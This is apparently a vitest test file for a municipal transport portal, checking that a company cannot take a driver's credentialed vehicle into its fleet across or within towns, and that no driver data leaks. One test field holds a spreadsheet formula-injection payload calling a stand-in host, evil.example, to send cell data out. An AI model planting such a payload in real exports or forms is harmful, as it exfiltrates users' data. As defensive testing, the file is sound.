// Issue #35, finding 1 — cross-town fleet claim (ADR 055). A company of Itaúna typed the plate of
// a Patrocínio driver's credentialed vehicle into its fleet: the portal took it, rewrote its data
// with what the company typed, showed the company the driver's name, showed the Patrocínio fiscal
// the company, and the company's "retirar" ended the driver's own assignment. A vehicle belongs to
// whoever registered it: these tests take a driver's vehicle from a company of another town and of
// the same town, and a vehicle already taken (before the fix), and read every place that leaked.
import { beforeAll, describe, expect, it } from "vitest";
import { Refusal } from "~/domain/refusal";
import { allPacks } from "~/domain/rule-packs/shipped";
import { approveAndIssue } from "~/models/approval.server";
import { fiscalDetail } from "~/models/fiscal.server";
import { addVehicle, assignDriver, listFleet, removeVehicle, unassignDriver } from "~/models/fleet.server";
import * as frota from "~/routes/operadora.$id.frota/route";
import { linkedDriver } from "../e2e/fixtures/operator-support";
import { db, operatorFor, type Prepared, prepareForApproval, randomPlate, staffActor } from "../support/conformance";
import { answerOf, cookieOf, ORIGIN, postTo, type RouteModule } from "./access-world";

const pack = (id: string) => allPacks.find((p) => p.id === id)!;
const staff = { ...staffActor, role: "ANALISTA" };

async function refusal(p: Promise<unknown>) {
  const e = await p.then(
    () => null,
    (x: unknown) => x,
  );
  if (!(e instanceof Refusal)) throw new Error(`esperava uma recusa, veio ${String(e)}`);
  return e;
}

/** A driver of Patrocínio with his own mototáxi, credentialed (AUTONOMO): the victim. */
async function patrocinioDriver() {
  const p = await prepareForApproval({ pack: pack("patrocinio-mg"), category: "MOTOTAXI", mode: "AUTONOMO" }, staff);
  await approveAndIssue(p.applicationId, p.municipality.id, staff);
  const vehicle = await db.vehicle.findUniqueOrThrow({ where: { plate: p.vehicle.plate! } });
  const credential = await db.credential.findFirstOrThrow({ where: { applicationId: p.applicationId } });
  return { ...p, vehicle, credential };
}

const openAssignments = (vehicleId: string) => db.vehicleDriver.findMany({ where: { vehicleId, until: null } });

/** The fleet page as the company's owner sees it. */
async function fleetPage(company: Awaited<ReturnType<typeof operatorFor>>) {
  const request = new Request(`${ORIGIN}/operadora/${company.operator.id}/frota`, {
    headers: { cookie: await cookieOf(company.owner) },
  });
  return answerOf(() =>
    (frota as RouteModule).loader!({
      request,
      params: { id: company.operator.id },
      context: { clientIp: "127.0.0.1", requestId: "teste" },
    }),
  );
}

let itauna: Awaited<ReturnType<typeof operatorFor>>;
beforeAll(async () => {
  itauna = await operatorFor(pack("itauna-mg"), "MOTOFRETE");
}, 120_000);

describe("vehicle tenancy — cross-town fleet claim (issue #35, finding 1)", () => {
  it("refuses an Itaúna company the plate of a Patrocínio driver's credentialed vehicle; nothing changes or leaks", async () => {
    const victim = await patrocinioDriver();
    const before = victim.vehicle;
    const claim = {
      plate: before.plate,
      make: '=HYPERLINK("http://evil.example/?d="&B9,"x")',
      model: "ROUBADA",
      ownerDocument: itauna.operator.cnpj,
      ownerName: itauna.operator.legalName,
      leased: false,
    };
    const refused = await refusal(addVehicle(itauna.operator, claim, itauna.actor));
    expect(refused.kind).toBe("conflict");
    expect(refused.message).toContain("registrado por um condutor");
    // It names nobody: the company learns no name, no CPF, no town.
    expect(refused.message).not.toContain(victim.user.name);
    expect(refused.message).not.toContain("Patrocínio");

    // Through the page, as the company would post it: refused, and the answer carries none of the driver.
    const posted = await postTo(
      frota as RouteModule,
      `/operadora/${itauna.operator.id}/frota`,
      itauna.owner,
      { id: itauna.operator.id },
      {
        plate: before.plate,
        make: "Honda",
        model: "ROUBADA",
        ownerTaxId: itauna.operator.cnpj,
        ownerName: itauna.operator.legalName,
      },
    );
    expect(posted.status).toBe(409);
    expect(posted.body).not.toContain(victim.user.name);

    // The vehicle is still the driver's, with his data, and he still drives it.
    const after = await db.vehicle.findUniqueOrThrow({ where: { id: before.id } });
    expect(after).toMatchObject({
      operatorId: null,
      make: before.make,
      model: before.model,
      ownerName: before.ownerName,
    });
    expect((await openAssignments(before.id)).map((d) => d.personId)).toEqual([victim.credential.holderPersonId]);

    // The company's fleet page does not show the driver; the Patrocínio fiscal sees no company.
    expect((await listFleet(itauna.operator.id)).some((v) => v.plate === before.plate)).toBe(false);
    const page = await fleetPage(itauna);
    expect(page.status).toBe(200);
    expect(page.body).not.toContain(victim.user.name);
    expect(page.body).not.toContain(victim.user.cpf);
    const fiscal = await fiscalDetail(victim.credential.id);
    expect(fiscal.operator).toBeNull();
    expect(fiscal.vehicle).toMatchObject({ make: before.make, model: before.model });
  }, 120_000);

  it("refuses a company of the same town a vehicle a driver holds, even its own linked driver's; his linked application brings it into the fleet", async () => {
    const p: Prepared = await prepareForApproval(
      { pack: pack("itauna-mg"), category: "MOTOFRETE", mode: "VINCULADO" },
      staff,
    );
    const plate = p.vehicle.plate!;
    // The driver already drives this motorcycle of his own (registered before, on his own).
    const own = await db.vehicle.upsert({
      where: { plate },
      create: { plate, make: "Antiga" },
      update: { make: "Antiga" },
    });
    const driver = await db.person.findUniqueOrThrow({ where: { userId: p.user.id } });
    await db.vehicleDriver.create({ data: { vehicleId: own.id, personId: driver.id } });

    const refused = await refusal(
      addVehicle(
        itauna.operator,
        { plate, make: "Outra", ownerDocument: itauna.operator.cnpj, ownerName: "Empresa", leased: false },
        itauna.actor,
      ),
    );
    expect(refused.kind).toBe("conflict");
    expect(refused.message).toContain("vinculado à empresa");
    expect(await db.vehicle.findUniqueOrThrow({ where: { id: own.id } })).toMatchObject({
      operatorId: null,
      make: "Antiga",
    });

    // The holder's way in: he applied as linked to the company; its approval moves his vehicle into the fleet.
    await approveAndIssue(p.applicationId, p.municipality.id, staff);
    expect(await db.vehicle.findUniqueOrThrow({ where: { id: own.id } })).toMatchObject({
      operatorId: itauna.operator.id,
      make: p.vehicle.make,
    });
    expect((await openAssignments(own.id)).map((d) => d.personId)).toEqual([driver.id]);
    const listed = (await listFleet(itauna.operator.id)).find((v) => v.plate === plate);
    expect(listed?.drivers.map((d) => d.person.fullName)).toEqual([driver.fullName]);
  }, 120_000);

  it("still takes a new plate into the fleet", async () => {
    const plate = randomPlate();
    const v = await addVehicle(
      itauna.operator,
      { plate, ownerDocument: itauna.operator.cnpj, ownerName: itauna.operator.legalName, leased: false },
      itauna.actor,
    );
    expect(v).toMatchObject({ plate, operatorId: itauna.operator.id });
  });

  it("a vehicle already taken (before the fix): the company sees no driver of it, cannot take him off nor add its own, and 'retirar da frota' leaves his assignment", async () => {
    const victim = await patrocinioDriver();
    const v = victim.vehicle;
    await db.vehicle.update({ where: { id: v.id }, data: { operatorId: itauna.operator.id } });
    const [assignment] = await openAssignments(v.id);

    const listed = (await listFleet(itauna.operator.id)).find((x) => x.id === v.id);
    expect(listed?.drivers).toEqual([]);
    expect(listed?.seal).toBeNull();
    expect((await fleetPage(itauna)).body).not.toContain(victim.user.name);

    expect((await refusal(unassignDriver(itauna.operator, v.id, assignment.id, itauna.actor))).kind).toBe("conflict");
    const ownDriver = await linkedDriver(itauna.operator, itauna.actor, "Condutor da Empresa");
    expect((await refusal(assignDriver(itauna.operator, v.id, ownDriver.link.id, itauna.actor))).kind).toBe("conflict");

    await removeVehicle(itauna.operator, v.id, itauna.actor);
    expect(await db.vehicle.findUniqueOrThrow({ where: { id: v.id } })).toMatchObject({ operatorId: null });
    expect((await openAssignments(v.id)).map((d) => d.id)).toEqual([assignment.id]);
  }, 120_000);
});
